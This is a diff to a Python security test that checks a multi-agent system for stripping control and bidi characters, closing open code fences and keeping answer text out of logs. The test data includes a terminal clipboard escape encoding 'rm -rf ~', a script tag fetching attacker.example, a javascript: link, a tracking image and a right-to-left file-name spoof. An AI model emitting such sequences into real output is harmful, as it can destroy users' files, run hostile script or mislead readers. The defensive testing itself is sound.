@@ -1,21 +1,25 @@
 """Agents that are not what they should be: what they answer is data, wherever it goes."""
 
 import asyncio
-import re
 import unicodedata
 
+from markdown_it import MarkdownIt
+
 from local_cloud.running_cloud import until
-from security.attack import Attack, must
+from security.attack import Attack, Inconclusive, must
 from security.secured_stack import SecuredStack
 
 MARK = "kept as it is"
+OTHERS = "The advisor agent's answer."
 
 # What takes over a terminal or turns a line's reading round, around text that stays.
 HOSTILE = (
     f"# {MARK}\n\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2J\x9b31m\x00\x08\r"
     "<script>fetch('https://attacker.example')</script> [click](javascript:alert(1)) ![](https://attacker.example/p.png)\n"
-    "\u202egnp.exe\u202c \u2066x\u2069 \ufeff\n```\nan open fence"
+    "\u202egnp.exe\u202c \u2066x\u2069 \ufeff\n"
 )
+# Each would make code of all that follows it.
+OPEN_FENCES = ("```\nan open fence", "- a list\n\n  ~~~~\n  an open fence in it", "   ```\nan open, indented fence")
 # As in the contract: line breaks and tabs are text.
 HARMLESS_CONTROLS = "\n\t"
 
@@ -30,18 +34,22 @@ def dangerous_characters(text: str) -> set[str]:
 
 
 async def a_hostile_answer(stack: SecuredStack) -> str:
-    stack.hostile_answer(HOSTILE)
     async with stack.signed_in() as client:
-        messages = await client.job("cost=hostile advisor=answer and where can I save?")
-    response = messages[-1]["result"]["response"]
-    must(MARK in response, f"The answer itself is gone: {response}")
-    for message in messages:
-        texts = [message.get("result", {}).get(field, "") for field in ("content", "response")]
-        must(not dangerous_characters("".join(texts)), f"{dangerous_characters(''.join(texts))} got through.")
-    must(re.search(r"^.*The advisor agent's answer\.", response, re.MULTILINE), "The other agent's part is gone.")
-    before_advisor = response.split("The advisor agent's answer.")[0]
-    must(before_advisor.count("```") % 2 == 0, "One agent's open fence swallows the other's part.")
+        for fence in OPEN_FENCES:
+            stack.hostile_answer(HOSTILE + fence)
+            messages = await client.job("cost=hostile advisor=answer and where can I save?")
+            response = messages[-1]["result"]["response"]
+            must(MARK in response, f"The answer itself is gone: {response}")
+            for message in messages:
+                texts = [message.get("result", {}).get(field, "") for field in ("content", "response")]
+                must(not dangerous_characters("".join(texts)), f"{dangerous_characters(''.join(texts))} got through.")
+            must(OTHERS in response, "The other agent's part is gone.")
+            must(not is_code(OTHERS, response), f"One agent's open fence swallows the other's part: {response}")
     return "control and bidi characters taken out, fence closed"
+
+
+def is_code(text: str, markdown: str) -> bool:
+    return any(text in token.content for token in MarkdownIt().parse(markdown) if token.type in {"fence", "code_block"})
 
 
 async def an_agents_own_words_about_its_failure(stack: SecuredStack) -> str:
@@ -61,12 +69,14 @@ async def text_in_the_logs(stack: SecuredStack) -> str:
         messages = await client.job(f"{mark} cost=hostile advisor=crash and where can I save?")
     job_id = messages[-1]["jobId"]
 
-    def lines_of_the_job() -> list[str]:
+    def lines_to_the_jobs_end() -> list[str]:
         lines = stack.log_lines("background-processor")
-        return [line for line in lines if job_id in line]
+        return lines if any(job_id in line and "A job was completed." in line for line in lines) else []
 
-    lines = await asyncio.to_thread(until, lines_of_the_job)
-    must(not any(mark in line for line in stack.log_lines("background-processor")), "A text is in the log.")
+    lines = await asyncio.to_thread(until, lines_to_the_jobs_end)
+    if not any(job_id in line and "An agent crashed." in line for line in lines):
+        raise Inconclusive("The log does not tell of the agent's crash.")
+    must(not any(mark in line for line in lines), "A text is in the log.")
     must(all(not dangerous_characters(line) for line in lines), "Control characters are in the log.")
     return "ids and types only"
 
